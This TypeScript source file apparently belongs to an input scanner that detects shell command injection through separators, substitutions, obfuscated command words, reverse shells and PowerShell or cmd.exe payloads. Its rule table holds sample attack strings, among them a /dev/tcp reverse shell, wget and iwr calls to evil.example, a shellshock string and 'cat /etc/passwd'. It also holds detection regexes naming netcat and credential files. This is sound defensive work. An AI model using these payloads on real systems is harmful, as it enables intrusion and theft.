import { K, SHELL_SURE_WORDS, SHELL_WORDS } from './keywords.ts'
import { brief, inFence, isDigit, isProgram, isSpace, isWord, sign, signIf, type Look } from './look.ts'
import * as place from './place.ts'
import { rulesOf } from './rules.ts'
import { C, P } from './scan.ts'
import { wordSet } from './sql-words.ts'

const rule = rulesOf('command', {
  chain: [1, 5, 'a separator of a shell, then a command', '; cat /etc/hosts', 'the cat; it sleeps'],
  substitution: [1, 5, 'a command in a substitution', '$(whoami)', '$(document)'],
  backtick: [1, 5, 'a command in backticks', '`id`', 'use `id` for it'],
  shell: [1, 5, 'a shell that is given a command', '/bin/bash -c "id"', 'bash is a shell'],
  network: [1, 5, 'a shell over the network', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev tcp'],
  sensitive: [1, 5, 'a command that reads system files', 'cat /etc/passwd', 'cat food'],
  invocation: [1, 5, 'a command line as the value', 'wget http://evil.example/x', 'wget is a tool'],
  hidden: [1, 5, 'a command broken by quotes, variables or globs', "c'a't /e?c/h*", "it's a cat"],
  spaces: [1, 5, "a shell's variable in place of a space", 'cat${IFS}x', 'the IFS variable'],
  brace: [1, 5, 'a command in a brace list', '{cat,/etc/hosts}', '{a,b}'],
  windows: [1, 5, 'a command of Windows', '& dir c:\\', 'the dir is here'],
  powershell: [1, 5, 'a cmdlet of PowerShell that runs or fetches', 'Invoke-Expression (iwr http://evil.example)', 'an expression'],
  loop: [1, 5, 'a FOR or IF of cmd.exe', 'FOR /F %a IN (the list of files that you made for it) DO echo x', 'for a in b'],
  function: [1, 5, 'a function definition of a shell: shellshock, fork bombs', '() { :;}; /bin/sh', 'f() { return }'],
  redirect: [1, 5, 'output into a system directory', '>/tmp/x', 'a > b'],
  option: [1, 5, 'an option that makes a program run or write something', '-oProxyCommand=id', '-o name'],
  dot: [1, 5, 'a command of a database shell behind a separator', '1;.shell id', '1; .5'],
  history: [1, 5, "a shell's history expansion", '!-1!-2', '!-1'],
  tilde: [2, 5, 'a tilde expansion', '~+', '~user'],
  alias: [1, 5, 'an alias for a command', "alias a='curl'", 'an alias'],
  wrapper: [1, 5, 'a command that starts another', 'nohup whoami', 'no time left'],
  single: [2, 5, 'a command as the value', 'ls -la', 'list']
})

const SURE = wordSet(SHELL_SURE_WORDS)
const PLAIN = wordSet(SHELL_WORDS)
const WRAPPERS = wordSet('sudo time nohup env exec command builtin eval nice timeout setsid busybox strace xargs watch doas su stdbuf ionice flock chroot unshare nsenter script start cmd call')

export function mayBeCommand (look: Look): boolean {
  const { chars, words, pairs } = look
  if (look.on[rule.tilde.no] === 1 && (chars & C.CARET) !== 0) return true
  const commands = words & (K.SHELL | K.SHELL_SURE | K.WINDOWS)
  if (commands !== 0 && (chars & (C.SEMI | C.PIPE | C.AMP | C.BACKTICK | C.LINE | C.DOLLAR | C.BRACE | C.SLASH | C.GT | C.LT | C.PERCENT | C.QUOTE | C.DQUOTE | C.MINUS | C.BACKSLASH)) !== 0) return true
  if ((chars & C.EQ) !== 0 && (look.text.startsWith('-') || look.text.startsWith('alias '))) return true
  if ((chars & C.BANG) !== 0 && look.text.startsWith('!-')) return true
  if ((chars & (C.DQUOTE | C.QUOTE)) !== 0 && (look.text.startsWith('""') || look.text.startsWith("''"))) return true
  if ((words & (K.SHELL_SURE | K.WINDOWS)) !== 0 && look.count < 12) return true
  if ((pairs & (P.DOLLAR_PAREN | P.LT_PAREN)) !== 0 || look.text.includes('() {') || look.text.includes('(){')) return true
  return look.count < 30 && (chars & (C.SEMI | C.PIPE | C.AMP | C.DOLLAR | C.BACKTICK | C.BRACE | C.BRACKET | C.STAR | C.BANG | C.CARET)) !== 0 && (chars & (C.BACKSLASH | C.QUOTE | C.DQUOTE | C.DOLLAR | C.STAR | C.BANG | C.BRACKET | C.SLASH | C.BRACE | C.BACKTICK | C.CARET | C.DOT)) !== 0
}

export function command (look: Look): void {
  const { chars } = look
  const chatty = (look.place & place.CHATTY) !== 0
  if ((chars & C.PAREN) !== 0) signIf(look, rule.function, /(?:^|[\s;"'=])(?:\(\)|[:\w.]+\s*\(\s*\))\s*\{\s*(?::|\.|[\w:]+(?:\(\))?\s*[|&]|\w*\s*$|_;)|^\(\)\s*\{/)
  if (look.score < look.threshold) separators(look, chatty)
  if (look.score < look.threshold && (chars & C.DOLLAR) !== 0) dollars(look)
  if (look.score < look.threshold && (chars & C.BACKTICK) !== 0) backticks(look)
  if (look.score >= look.threshold || !brief(look)) {
    if (!brief(look)) {
      signIf(look, rule.network, /\/dev\/(?:tcp|udp)\/\d/)
      signIf(look, rule.loop, /\bFOR\s+\/[FLDR]\s+%/)
    }
    return
  }
  if (!chatty || (chars & C.SLASH) !== 0) lines(look)
}

/** Reads the command word at `at` as a shell would: quotes, backslashes, empty substitutions and variables fall away. Returns its end; the word is in `readWord`. */
let readWord = ''
let readTricks = 0
function read (text: string, at: number): number {
  readWord = ''
  readTricks = 0
  let i = at
  while (i < text.length && readWord.length < 40) {
    const code = text.charCodeAt(i)
    if (isWord(code) || code === 46 || code === 47 || code === 63 || code === 42 || code === 91 || code === 93 || code === 45 || code === 43) {
      if (code === 45 && readWord === '') break
      readWord += text[i]!
      i++
    } else if (code === 39 || code === 34 || code === 92) {
      if (readWord !== '' || code === 92) readTricks++
      else if (i === at) readTricks++
      i++
    } else if (code === 94) {
      readTricks++
      i++
    } else if (code === 36) {
      const next = text.charCodeAt(i + 1)
      if (next === 64 || next === 42 || next === 33 || next === 63 || next === 36 || isDigit(next)) i += 2
      else if (next === 123 || next === 40) {
        const close = next === 123 ? 125 : 41
        let end = i + 2
        while (end < i + 30 && end < text.length && text.charCodeAt(end) !== close) end++
        if (text.charCodeAt(end) !== close) break
        if (/^\$\{?IFS/.test(text.slice(i, i + 6))) break
        i = end + 1
      } else if (next === 39 || next === 34) i++
      else if (isWord(next) && readWord !== '') {
        if (text.startsWith('$IFS', i)) break
        i++
        while (isWord(text.charCodeAt(i)) && i < at + 60) i++
      } else break
      readTricks++
    } else if (code === 96 && text.charCodeAt(i + 1) === 96) {
      i += 2
      readTricks++
    } else break
  }
  return i
}

/** Words that are whole commands. */
const ALONE = wordSet('id ls ps who env pwd dir ver net cat w df du uptime ip ss tty arch')
/** Those that are also plain words: only right behind the separator. */
const ALONE_TIGHT = wordSet('set top date free last sleep ping reboot halt shutdown history groups host dig hash jobs mount vol exit vol calc pinky compgen jobs declare tree')

/** Tools whose parts are named with a hyphen: `apt-get`, `docker-compose`. */
const SUITES = wordSet('ansible chef docker apt aa rmt systemd ssh dpkg rpm mysql pg openssl grub kubectl update sqlite3 run init')

/** What a command word is: 0 none, 1 also an English word, 2 surely a command. */
function rank (word: string): number {
  const slash = word.lastIndexOf('/')
  const name = (slash < 0 ? word : word.slice(slash + 1)).toLowerCase().replace(/\.(?:exe|com|bat)$/, '').replace(/[.\d-]+$/, '')
  const full = slash < 0 ? word.toLowerCase() : word.slice(slash + 1).toLowerCase()
  if (SURE.has(name) || SURE.has(full)) return 2
  const hyphen = name.indexOf('-')
  if (hyphen > 0 && (SUITES.has(name.slice(0, hyphen)) || SURE.has(name.slice(0, hyphen))) && /^[a-z]/.test(name.slice(hyphen + 1))) return 2
  if (/\w\.(?:exe|bat|cmd|ps1|vbs)$/.test(full)) return 2
  if (slash >= 0 && /^\/?(?:usr\/(?:local\/)?)?s?bin\//.test(word)) return 2
  if (PLAIN.has(name) || PLAIN.has(full)) return slash >= 0 ? 2 : 1
  // Globs that can only mean a binary: `/???/c?t`, `/bin/ca?`, `adduse[r]`.
  if (/[?*[]/.test(word) && /^\/[\w?*[\]]+\/[\w?*[\]/]+$/.test(word)) return 2
  return 0
}

/** What a command must have to count in an article. */
const ARTICLE = /\/etc\/|\/bin\/(?:ba)?sh|\/dev\/tcp|whoami|ifconfig|ipconfig|systeminfo/i

/** Each separator: does a command follow? */
function separators (look: Look, chatty: boolean): void {
  const { text } = look
  const table = /\|[^\n|]*\|[^\n|]*\|/.test(text.slice(0, 4000)) && text.includes('\n')
  const article = !brief(look)
  const lines = (look.place & (place.QUERY | place.FORM | place.COOKIE | place.HEADER | place.VALUE)) !== 0 ? look.count < 30 : look.count <= 4
  if (article && !ARTICLE.test(text)) return
  const length = text.length
  for (let at = 0; at < length && look.score < look.threshold; at++) {
    const code = text.charCodeAt(at)
    if (code !== 59 && code !== 124 && code !== 38 && (code !== 10 || !lines)) continue
    if (code === 124 && table) continue
    let next = at + 1
    while (next < length && (isSpace(text.charCodeAt(next)) || text.charCodeAt(next) === 124 || text.charCodeAt(next) === 38 || text.charCodeAt(next) === 40 || text.charCodeAt(next) === 123)) next++
    if (next >= length) break
    const double = text.charCodeAt(at + 1) === code
    let end = read(text, next)
    let word = readWord
    let tricks = readTricks
    let kind = word === '' ? 0 : rank(word)
    if (kind > 0 && WRAPPERS.has(word) && isSpace(text.charCodeAt(end))) {
      const wrapped = read(text, skipSpaces(text, end))
      const inner = readWord === '' ? 0 : rank(readWord)
      if (inner > 0) {
        end = wrapped
        word = readWord
        tricks += readTricks
        kind = 2
      }
    }
    if (kind > 0 && !shellLine(text, at) && !(code === 59 && kind < 2 && isProgram(look)) && isCommand(look, at, code, next, end, word, kind, tricks, double, chatty, article)) {
      sign(look, tricks > 0 && kind === 1 ? rule.hidden : rule.chain, at, end + 8)
      return
    }
    at = Math.max(at, next - 1)
  }
}

function skipSpaces (text: string, at: number): number {
  while (isSpace(text.charCodeAt(at))) at++
  return at
}

const ALONE_OR_SET = wordSet('id ls ps who env pwd dir ver set w df du uptime whoami uname')
/** Command lines whose arguments are plain words. */
const LINE = /^(?:ps\s+(?:aux|-?ef|ax|a)\b|docker\s+(?:ps|run|exec|images|pull|build|inspect)\b|git\s+(?:clone|push|pull|config|log|status|show|diff|checkout)\b|(?:apt|yum|dnf|apk|snap|pip3?|gem|npm|brew|cpan|go)\s+(?:install|update|upgrade|remove|get|list|search|run|exec)\b|service\s+[\w.-]+\s+(?:start|stop|status|restart)\b|tar\s+-?[cxtzjvpf]{2,}\s|scp\s+\S+\s+\S+:|ip\s+(?:a|addr|route|link|neigh)\b|nc\s+\S+\s+\d|set\s+\/[ap]\b|start\s+\w+(?:\.exe)?\s*$|(?:reg|sc)\s+(?:query|add|delete|config|create|start|stop)\b|help\s+\w+\s*$|ex\s+\S+\s+\+)/i

/** Whether the line before a separator is itself a command of a developer, as instructions show it. */
function shellLine (text: string, at: number): boolean {
  return /(?:^|\n)[ \t>`]*(?:\$ )?(?:git|npm|npx|yarn|pnpm|cd|make|brew|cargo|pip)[ \t][^\n]*$/.test(text.slice(Math.max(text.lastIndexOf('\n', at), at - 200, 0), at))
}

/** Whether a command ends here. */
function finishedAt (rest: string): boolean {
  return /^\s*(?:$|[;|&`)<>\n"'}#%])/.test(rest)
}

function isCommand (look: Look, at: number, code: number, next: number, end: number, word: string, kind: number, tricks: number, double: boolean, chatty: boolean, article: boolean): boolean {
  const { text } = look
  const after = text.charCodeAt(end)
  const rest = text.slice(end, end + 60)
  // `&id=5` in a link, `; charset=utf-8` in a header, `;width:5px` in a style, `&amp;`.
  if (inFence(look, at, true)) return false
  if (after === 44 || after === 61 || (after === 58 && code === 59) || (after === 59 && code === 38 && next === at + 1 && !double)) return false
  if (after === 40 && code !== 10) return /^\(\s*\)?\s*$/.test(rest) ? false : kind === 2 && /^\(["']/.test(rest)
  if (code === 10 && (kind < 2 || article || !/^[ \t]*(?:$|[-/|;>&$"'~.]|https?:|\w+[./-])/.test(rest))) {
    if (at < 3 && look.count <= 2 && finishedAt(rest) && ALONE.has(word.toLowerCase())) return true
    return !article && /^[ \t]+(?:-\w|\/\w)/.test(rest) && look.count < 12
  }
  if (at === 0 && finishedAt(rest) && ALONE_OR_SET.has(word.toLowerCase()) && look.count <= 2) return true
  if (chatty && (kind < 2 || !/^\s*(?:[-/|;>&$]|https?:|$)/.test(rest) || /\//.test(word))) return false
  const quoted = tricks > 0
  const finished = finishedAt(rest)
  const argued = /^(?:\s+|\$IFS|\$\{IFS|<|>|%09|%20)[{$]*(?:-{1,2}\w|[/.~$*?%"'`\\<>]|https?:|\d|[\w-]*[./@:*?$][\w/]|[a-z]:|\/)/i.test(rest) || (kind === 2 && /^\s+[\w.-]+\s*(?:$|[;|&>`)])/.test(rest))
  if (article) {
    // In an article a separator followed by a command is nearly always shown code.
    const strong = /(?:\/etc\/\w|\/bin\/(?:ba)?sh|\/dev\/tcp)/.test(rest) || (/^(?:whoami|ifconfig|ipconfig|systeminfo)$/i.test(word) && finished)
    return strong && !/[\w,.]\s+\w+\s*$/.test(text.slice(Math.max(0, at - 30), at))
  }
  if (kind === 1 && finished && !argued && !quoted && !ALONE.has(word.toLowerCase()) && !(next === at + 1 && ALONE_TIGHT.has(word.toLowerCase()))) return false
  if (kind === 2) return finished || argued || code !== 38 || double || quoted || /^\s/.test(rest)
  if (code === 38 && !double && next === at + 1 && !quoted && !argued) return finished && /^(?:id|ls|dir|pwd|ps|ver|net|whoami|set|env|w|sleep|ping|apt|aptitude)$/i.test(word) && text.length < 60 && !/[?&]\w+=/.test(text.slice(0, at))
  if (quoted) return finished || argued
  if (code !== 10 && LINE.test(text.slice(next, next + 60))) return true
  if (at === 0 && look.count <= 4 && !double && code !== 38) return true
  const before = at > 0 ? text.charCodeAt(at - 1) : 0
  if (code === 59 && isWord(before) && text.charCodeAt(at + 1) === 32 && !argued) return finished && look.count <= 6 && text.length < 80
  // A sentence goes on with plain words: "; find out more".
  if (/^\s+[a-z]+(?:\s+[a-z]+){2,}/i.test(rest) && !/^\s+-/.test(rest)) return false
  return finished || argued
}

/** `$(`, `${`, `$IFS`, `<(`: substitutions. */
function dollars (look: Look): void {
  const { text } = look
  const short = brief(look)
  if (short) signIf(look, rule.spaces, /\$\{?IFS\b|\$\{(?:PATH|HOME|PWD|SHELL|LS_COLORS|OLDPWD|HOSTNAME|PS\d)[:%#}]|\$\{?SHELL\}?\s+-|\$@|\$'\\|%(?:PROGRAMFILES|COMSPEC|SYSTEMROOT|PATH|HOMEPATH)(?::|%)/i)
  for (let at = text.indexOf('$('); at >= 0 && look.score < look.threshold; at = text.indexOf('$(', at + 2)) {
    let from = at + 2
    while (isSpace(text.charCodeAt(from)) || text.charCodeAt(from) === 40) from++
    const end = read(text, from)
    const word = readWord
    const kind = word === '' ? 0 : rank(word)
    const after = text.charCodeAt(end)
    if (text.charCodeAt(at + 2) === 40 && short && /^\(\(?\s*\d+\s*(?:[-+*/]\s*\d+|\)\))/.test(text.slice(at + 2, at + 30))) sign(look, rule.substitution, at, end)
    else if (kind > 0 && (isSpace(after) || after === 41 || after === 60 || after === 36 || after === 124 || after === 59)) {
      if (short ? (kind === 2 || !/^\w+\s+[a-z]+\s+[a-z]+\s+[a-z]+/.test(text.slice(from, from + 60))) : kind === 2 && /^(?:whoami|uname|ifconfig)$/.test(word) && !inFence(look, at) && after === 41) sign(look, rule.substitution, at, end)
    } else if (short && look.count < 6 && after === 41 && (word === 'cmd' || readTricks > 0)) sign(look, rule.substitution, at, end)
  }
}

/** Commands in backticks; in an article backticks quote code, and count for nothing. */
function backticks (look: Look): void {
  const { text } = look
  if (!brief(look)) return
  let open = text.indexOf('`')
  while (open >= 0 && look.score < look.threshold) {
    if (text.startsWith('```', open)) {
      open = text.indexOf('`', Math.max(text.indexOf('```', open + 3), open) + 3)
      continue
    }
    const from = skipSpaces(text, open + 1)
    const end = read(text, from)
    const kind = readWord === '' ? 0 : rank(readWord)
    const close = text.indexOf('`', open + 1)
    if (kind > 0 && (close < 0 || close >= end) && !(close > 0 && /^(?:npm|npx|yarn|pnpm)$/.test(readWord))) {
      const before = open > 0 ? text.charCodeAt(open - 1) : 0
      const prose = open > 2 && isSpace(before) && /[a-z,.:]\s+$/i.test(text.slice(Math.max(0, open - 12), open))
      const listed = close > 0 && BLOCK.test(text.slice(text.lastIndexOf('\n', open) + 1, open))
      const alone = (close === text.length - 1 || close < 0) && open < 3
      if (!prose && !listed && !sentence(text, close) && (alone || kind === 2 || look.count < 10) && close - open !== 1) sign(look, rule.backtick, open, end)
    }
    if (close < 0) break
    open = text.indexOf('`', close + 1)
  }
}

/** What begins a heading, a list item or a quote in Markdown. */
const BLOCK = /^\s*(?:#{2,6}|[-*>+|]|\d+\.) /

/** Whether a sentence goes on behind a span of code: `name` does so. */
function sentence (text: string, close: number): boolean {
  return close > 0 && /^(?: [a-z]{2,}){2}/i.test(text.slice(close + 1, close + 60))
}

const NETWORK = /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)(?:\.\w+)?\s+(?:-\w+\s+)*(?:-\w*[elc]\w*|[\w.]+\s+\d+)|\b(?:ba|z|k|c|da)?sh\s+-i\b|0[<>]&\d|>&\s*\/dev|mkfifo\s+\/|socket\.socket|fsockopen\(|TCPSocket|\bsocat\s+\S+:|exec:['"]|telnet\s+[\d.]+\s+\d+\s*\|/i
const SENSITIVE = /\b(?:cat|tac|less|more|head|tail|nl|od|xxd|strings|grep|awk|sed|cp|mv|ls|dd|find|base64|cut|sort|type|vi|vim|nano|rev|curl|wget|chmod|rm|tee|locate|file|stat|diff|uniq|wc|ln|tar)\b[^\n;|]{0,80}?(?:\/etc\/|\/proc\/|\/bin\/|\/var\/log|\/root\b|\/dev\/(?:tcp|sd|null)|~\/\.ssh|id_rsa|\.bash_history|win\.ini|boot\.ini|\/tmp\/|\/home\/|if=\/|\/usr\/)/i
const SHELL = /(?:^|[\s;|&"'=(`/])(?:\/(?:usr\/(?:local\/)?)?s?bin\/[\w.-]+(?:\s|$|['"`)|;])|(?:ba|z|k|c|da|tc|fi)?sh\s+-c\b|(?:python[\d.]*|perl|ruby|php|node|lua|busybox)\s+(?:-\w*[ecr]\w*\s*['"(\w]|-m\s+http|-c\s)|\$\{?SHELL\}?\s+-c|cmd(?:\.exe)?\s*(?:\/[ck]|\^)|cmd\.exe|powershell(?:\.exe)?\s+(?:-\w+|[a-z]:|["'&]))|(?:\|\s*(?:ba|z|da|k)?sh\s*(?:$|[;#&"'`)]|\+?``|-))|<<<|\bIFS=|base64\s+(?:-d|--decode|-D)\b|\|\s*(?:xxd|rev|base64|tr\s)/i
const POWERSHELL = /\b(?:Invoke-(?:Expression|WebRequest|RestMethod|Command|Item|Shellcode|Mimikatz|Method|WmiMethod)|IEX\s*[("'$]|Start-(?:Process|BitsTransfer|Job)|New-Object\s+(?:System\.)?(?:Net|IO|Diagnostics)|Download(?:String|File|Data)\s*\(|-(?:enc|encodedcommand)\s+[A-Za-z0-9+/=]{8,}|Get-(?:Content|ChildItem|Process|Service|WmiObject|Command|Host|Item)\b|Set-ExecutionPolicy|(?:iwr|irm)\s+(?:-\w+\s+)*['"]?https?:|\[System\.(?:Net|IO|Text|Diagnostics|Convert)|Add-Type|Net\.WebClient)/i
const CMD = /\bFOR\s+(?:\/[FLDR]\s|%\S+\s+IN\s*\()|\bIF\s+(?:\/I\s+)?(?:NOT\s+)?(?:EXIST\s|DEFINED\s|ERRORLEVEL\s|"?%|X%)|\b(?:certutil|bitsadmin|regsvr32|rundll32|mshta|wmic|schtasks|bcdboot)(?:\.exe)?\s+[-/\w%<\\]+|\bnet\s+(?:user|localgroup|group|share|use|view|start|stop)\b|\breg(?:edit)?(?:\.exe)?\s+(?:\/|add|query|delete|save)|%(?:comspec|systemroot|systemdrive|programfiles|appdata|temp|windir|userprofile|username|computername|os)(?:%|:)|\btype\s+(?:%|[a-z]:\\|\\)|\bdir\s+(?:[a-z]:[\\/]|\/[a-z]\b|%)|\becho\s+%\w+%|\bcopy\s+con\b|\battrib\s+[+-]|\bicacls\s|\bsc\s+(?:create|config|query)\b|\bping\s+-n\s+\d|%\w+:~-?\d/i
const INVOCATION = /^\s*(?:["'`]?\s*[;|&]*\s*)(?:wget|curl|lynx|fetch|ftp|tftp|scp|rsync)\s+(?:-\S+\s+)*(?:['"]?(?:https?|ftp):\/\/|\S+\.(?:com|net|org|io|sh|COM)\b|\d{1,3}\.\d)|^\s*(?:ping|nslookup|dig|host|traceroute|tracert)\s+(?:-\w+\s+\d*\s*)*(?:\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+\.\w{2,})\s*(?:$|[;|&#])|^\s*(?:chmod|chown)\s+(?:-\w+\s+)*[0-7+rwx]{2,}\s+\S|^\s*rm\s+-\w*[rf]|^\s*(?:ifconfig|ipconfig|netstat|whoami|printenv)(?:\s+-\w+)?\s*$|^\s*(?:uname|id|env|hostname)\s+-{1,2}\w+\s*$|^\s*sleep\s+\d+\s*$|^\s*kill\s+'?-|^\s*(?:cat|ls|head|tail)\s+(?:-\w+\s+)?[/~.*]\S*\s*$|^\s*(?:ls|ps|uname|df|du|netstat)\s+-\w+\s*$|^\s*dd\s+if=/

/** Whole command lines, in texts that are short enough to be one. */
function lines (look: Look): void {
  const { text, words, chars } = look
  const header = (look.place & place.CHATTY) !== 0
  const prose = /(?:^|[\s(])(?:the|and|of|is|that|with|this|you|your|for|are|from|to|it)\s+[a-z]+[\s,.]/i.test(text) && look.count > 8
  signIf(look, rule.network, NETWORK)
  if (header) {
    signIf(look, rule.shell, /\/bin\/(?:ba)?sh\s+-c|\bnc\s+-\w*[le]/)
    return
  }
  if (!prose) {
    signIf(look, rule.sensitive, SENSITIVE)
    if ((words & (K.SHELL_SURE | K.WINDOWS)) !== 0 || text.includes('<<<') || (look.chars & C.PIPE) !== 0) signIf(look, rule.shell, SHELL)
    signIf(look, rule.windows, CMD)
    if (text.includes('<(') || text.includes('>(')) signIf(look, rule.substitution, /(?:^|[\s;|&=(,"'])[<>]\(\s*(?:\)|\w+[\s)])|[a-z][<>]\(\)[a-z]/)
    signIf(look, rule.redirect, /(?:^|\s|\w)>{1,2}\s*\/(?:tmp|etc|var|dev|usr|root|home)\/\w/)
    signIf(look, rule.alias, /(?:^|[;&|]\s*)alias\s+(?:[-+]\w+\s+)*[+\w"'.-]+\s*=\s*\S/)
  } else signIf(look, rule.loop, /\bIF\s+(?:\/I\s+)?(?:NOT\s+)?"?%\w+%|\bFOR\s+\/[FLDR]\s+%|\bFOR\s+%\S+\s+IN\s*\(/i)
  if ((words & (K.WINDOWS | K.SHELL_SURE)) !== 0) signIf(look, rule.powershell, POWERSHELL)
  if ((chars & C.MINUS) !== 0 && !prose) {
    signIf(look, rule.powershell, /(?:^|[;|&(\s])(?:Get|Set|New|Remove|Start|Stop|Invoke|Out|Write|Add|Import|Export|Test|Copy|Move|Select|Enable|Disable|Clear|Restart|Register|Unregister|Where|ForEach)-[A-Z][A-Za-z]+\s+(?:[\w\\:.]+\s+)?-[A-Za-z]/)
    signIf(look, rule.option, /^\s*-{1,2}(?:oProxyCommand|use-askpass|post-file|checkpoint-action|to-command|use-compress-program|exec(?:dir)?\b|rsh=|upload-pack|receive-pack|config-file|output(?:-document)?=\/|load=|eval\b|system=|init-command|open-files-in-pager|wrapper\s+\w+,)|\s-wrapper\s+\w+,/)
  }
  if ((look.place & (place.NAME | place.PATH)) === 0 || (look.count < 8 && look.count > 1)) signIf(look, rule.invocation, INVOCATION)
  if (prose) return
  // Braces: `{cat,/etc/hosts}`, `{,ifconfig,eth0}`.
  if ((look.chars & C.BRACE) !== 0 && !text.includes(':')) signIf(look, rule.brace, /(?:^|[\w;|&=("'\s])\{(?:,[\w#$"'./?*-]+[,}]|(?:cat|ls|l|id|cp|rm|nc|wget|curl|ping|echo|bash|sh|uname|n\$u)\b[^{},:]*,[^{}:]*\}|[\w/?*$.\\-]+,[-/][^{}]*\}|[\w/]*\?[\w/?]*,?\})/)
  if ((chars & C.DOT) !== 0) signIf(look, rule.dot, /[;\n]\s*(?:\\n)?\s*\.["'\\]*(?:sh|shell|system|databases|dump|read|import|open|output|once|load|tables|schema|quit|exit|save|restore|clone|archive)\b/)
  if ((chars & C.DOLLAR) !== 0) signIf(look, rule.hidden, /[;&|]\s*\$\{?[a-z_]\w*\}?\$\{?[a-z_]/i)
  if ((chars & C.BANG) !== 0) signIf(look, rule.history, /^(?:!-?\d+){2,}$/)
  signIf(look, rule.invocation, /^\s*(?:id|ls|pwd|whoami|uname|ifconfig|ipconfig|netstat|env|ps)\s*[;|&]+\s*$|^\\(?:ls|id|cat|rm|sh|bash|nc|curl|wget|env|ps|cp|mv|dd)(?:\s|$)/)
  const binary = /^\/?(?:usr\/)?s?bin\/([a-z][\w.-]*)(?:\s|$)/.exec(text)
  if (binary !== null && rank(binary[1]!) > 0) sign(look, rule.invocation, 0, binary[0].length)
  const first = WRAPPED.exec(text)
  if (first !== null) {
    read(text, first[0].length)
    if (rank(readWord) > 0) sign(look, rule.wrapper, 0, first[0].length + readWord.length)
  }
  if (look.count <= 12 && (look.place & (place.PATH | place.NAME)) === 0) single(look)
  signIf(look, rule.tilde, /^~(?:[+-]\d*|\d+)$|^~\+ \d$/)
  hidden(look)
}

/** The value as a whole: a command and its arguments. */
function single (look: Look): void {
  const { text } = look
  const end = read(text, skipSpaces(text, 0))
  const kind = rank(readWord)
  if (kind === 0) return
  const rest = text.slice(end, end + 80)
  if (/\n\s*\S|[.:,] |`/.test(text)) return
  const suite = readWord.indexOf('-')
  if ((look.place & place.HEADER) === 0 && kind === 2 && suite > 0 && SUITES.has(readWord.slice(0, suite)) && look.count <= 8 && (/^\s+\S/.test(rest) || (look.place & place.JSON_VALUE) === 0)) sign(look, rule.invocation, 0, end)
  if ((look.place & place.HEADER) === 0 && kind === 2 && /^(?:\s+[\w.]+){0,2}\s+(?:-{1,2}[a-zA-Z][\w-]*(?:[\s=]|$)|\/[\w.]+(?:\/|\s|$)|~\/|\$\w)/.test(rest) && look.count <= 8) sign(look, rule.invocation, 0, end)
  else if (look.on[rule.single.no] === 1) {
    const json = (look.place & place.JSON_VALUE) !== 0
    const argued = /^\s+[-/~.$]/.test(rest)
    if (argued || (kind === 2 && (json ? /^\s+[\d\w]/ : /^(?:\s*$|\s+[\d\w])/).test(rest))) sign(look, rule.single, 0, end)
  }
}

const WRAPPED = /^\s*(?:nohup|strace|ltrace|timeout\s+\d+|setsid|busybox|sudo|env|xargs|stdbuf|ionice|flock\s+-u\s+\/|nice|time|exec|command)\s+(?=\S)/

/** Words broken to pass a filter: `c'a't`, `w\\ho`, `/e?c/p*`, `$u` inside. */
function hidden (look: Look): void {
  const { text } = look
  if (look.count > 16) return
  if (/[?*[\]]/.test(text)) signIf(look, rule.hidden, /(?:^|[\s;|&=('"])\/(?:[\w\]!]*[?*[][\w?*[\]!-]*\/[\w?*[\]!./-]+|(?:bin|etc|usr|var|proc)\/[\w/]*[?*[][\w?*[\]!-]*)/)
  if ((look.chars & C.BRACE) !== 0 && look.count <= 6) expanded(look)
  if (!/[\\'"$`^]/.test(text)) return
  signIf(look, rule.hidden, /\w(?:``(?!`)|\$\(\))|(?:\w?(?:""|'')\w){3}|(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?(?:\s+[-\w/$]|\$\{?[a-z_])|(?:^|[\s;&|])[a-z_]\w*=[^\s;&|]+(?:;|&&)\s*\$\{?[a-z_]|^(?:''|"")\w(?:''|"")\w/i)
  let at = 0
  let tries = 0
  while (at < text.length && tries < 40) {
    const end = read(text, at)
    const plain = readWord
    if (readTricks > 0 && /[\w/?]['"\\$`^]/.test(text.slice(at, end)) && rank(plain) > 0 && /[a-z/]/.test(plain) && plain.length > 1) {
      const raw = text.slice(at, end)
      if (/\w(?:''|""|``|\\|\^|\$[@*!?$\w({]|['"]\w+['"])\w?/.test(raw) && !/^["'][\w.-]+["']?$/.test(raw)) {
        sign(look, rule.hidden, at, end)
        return
      }
    }
    at = end + 1
    tries++
  }
}

/** `c{a,oun}t`: a list in braces inside a word that makes a command. */
function expanded (look: Look): void {
  const found = /(?:^|[\s;|&(/])([a-z]*)\{([a-z]*(?:,[a-z]*)+)\}([a-z]*)/.exec(look.text)
  if (found === null || found[1]! + found[3]! === '') return
  for (const part of found[2]!.split(',').slice(0, 8)) if (rank(found[1]! + part + found[3]!) > 0) sign(look, rule.hidden, found.index, found.index + found[0].length)
}
